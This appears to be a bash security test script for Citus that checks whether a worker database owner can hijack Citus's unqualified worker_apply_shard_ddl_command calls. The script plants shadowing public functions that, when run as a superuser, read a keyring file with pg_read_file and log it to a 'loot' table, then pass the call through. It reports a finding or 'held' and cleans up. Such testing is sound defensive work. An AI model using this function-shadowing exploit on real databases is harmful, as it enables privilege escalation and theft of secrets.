#!/usr/bin/env bash
# 107 — Citus: a worker's database owner (it owns schema public) shadows
# the functions Citus calls unqualified on workers. Citus sends "SELECT
# worker_apply_shard_ddl_command (<shard id>, '<cmd>')" (and with a schema
# argument) without pg_catalog., over connections whose search_path has
# public; the shard id is an int4 literal, so a public.
# worker_apply_shard_ddl_command(int, text[, text]) matches better than
# pg_catalog's (bigint, ...). wdbo, made the owner of the database on
# worker1 only (a worker-side database owner), creates both, each
# recording current_user/application_name, copying the keyring file when it
# runs as a superuser, and then calling pg_catalog's so that nothing fails.
# Then (a) a superuser distributes a table of its own (create_distributed_table);
# (b) a superuser moves a shard of the protected table subs to worker1.
# Secure outcome: Citus's calls reach pg_catalog's functions only: wdbo's
#   never run (or never as a superuser or listguard_owner).
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
cleanup() {
    at worker1 -c "SET citus.enable_ddl_propagation = off" -c "DROP FUNCTION IF EXISTS public.worker_apply_shard_ddl_command(int, text, text)" \
        -c "DROP FUNCTION IF EXISTS public.worker_apply_shard_ddl_command(int, text)" -c "DROP TABLE IF EXISTS public.loot107" \
        -c "ALTER DATABASE esp OWNER TO postgres" -c "DROP ROLE IF EXISTS wdbo" >/dev/null 2>&1
    at coordinator -c "DROP TABLE IF EXISTS t107" >/dev/null 2>&1
}
cleanup
at worker1 -c "SET citus.enable_ddl_propagation = off" -c "CREATE ROLE wdbo LOGIN" -c "ALTER DATABASE esp OWNER TO wdbo" >/dev/null
at worker1 -U wdbo -v ON_ERROR_STOP=1 >/dev/null <<'SQL'
SET citus.enable_ddl_propagation = off;
CREATE TABLE public.loot107 (at timestamptz DEFAULT now(), fn text, cu text, app text, arg text, secret text);
GRANT INSERT ON public.loot107 TO PUBLIC;
CREATE FUNCTION public._grab107(fn text, cmd text) RETURNS void LANGUAGE plpgsql AS $f$
DECLARE s text;
BEGIN
  IF current_setting('is_superuser') = 'on' THEN
    BEGIN s := left(pg_read_file(current_setting('listguard.key_file')), 40); EXCEPTION WHEN others THEN s := SQLERRM; END;
  END IF;
  INSERT INTO public.loot107 (fn, cu, app, arg, secret) VALUES (fn, current_user, current_setting('application_name'), left(cmd, 70), s);
END $f$;
CREATE FUNCTION public.worker_apply_shard_ddl_command(shardid int, schema text, cmd text) RETURNS void LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM public._grab107('apply3', cmd);
  PERFORM pg_catalog.worker_apply_shard_ddl_command(shardid::bigint, schema, cmd);
END $f$;
CREATE FUNCTION public.worker_apply_shard_ddl_command(shardid int, cmd text) RETURNS void LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM public._grab107('apply2', cmd);
  PERFORM pg_catalog.worker_apply_shard_ddl_command(shardid::bigint, cmd);
END $f$;
SQL
echo "a) superuser distributes t107: $(at coordinator -c "CREATE TABLE t107 (id int PRIMARY KEY, v text)" -c "SELECT create_distributed_table('t107', 'id')" 2>&1 | grep -c ERROR) errors"
w1=$(at coordinator -c "SELECT nodeid FROM pg_dist_node WHERE nodeport = $(node_port worker1)")
w2=$(at coordinator -c "SELECT nodeid FROM pg_dist_node WHERE nodeport = $(node_port worker2)")
sid=$(at coordinator -c "SELECT p.shardid FROM pg_dist_placement p JOIN pg_dist_shard s USING (shardid) WHERE s.logicalrelid = 'subs'::regclass AND p.groupid = (SELECT groupid FROM pg_dist_node WHERE nodeid = $w2) LIMIT 1")
mv=$(at coordinator -c "SELECT citus_move_shard_placement($sid, $w2, $w1, 'block_writes')" 2>&1 | grep ERROR | head -1)
echo "b) superuser moves subs shard $sid worker2 -> worker1: ${mv:-ok}"
echo "wdbo's functions ran as (on worker1):"
at worker1 -c "SELECT fn || ' as ' || cu || ' [' || app || '] ' || coalesce('secret=' || secret, '') || ' : ' || arg FROM public.loot107 ORDER BY at" | sort | uniq -c | sort -rn | head -12
su=$(at worker1 -c "SELECT count(*) FROM public.loot107 WHERE cu = 'postgres' AND secret LIKE '%keyring%'")
ow=$(at worker1 -c "SELECT count(*) FROM public.loot107 WHERE cu = 'listguard_owner'")
# Move the shard back, restore worker1.
at coordinator -c "SELECT citus_move_shard_placement($sid, $w1, $w2, 'block_writes')" >/dev/null 2>&1
cleanup
if [ "${su:-0}" -gt 0 ] || [ "${ow:-0}" -gt 0 ]; then
    echo "RESULT: FINDING (H): a worker's database owner runs its code in Citus's connections: $su calls as the superuser (keyring read), $ow as listguard_owner (proven)"
else
    echo "RESULT: held"
fi
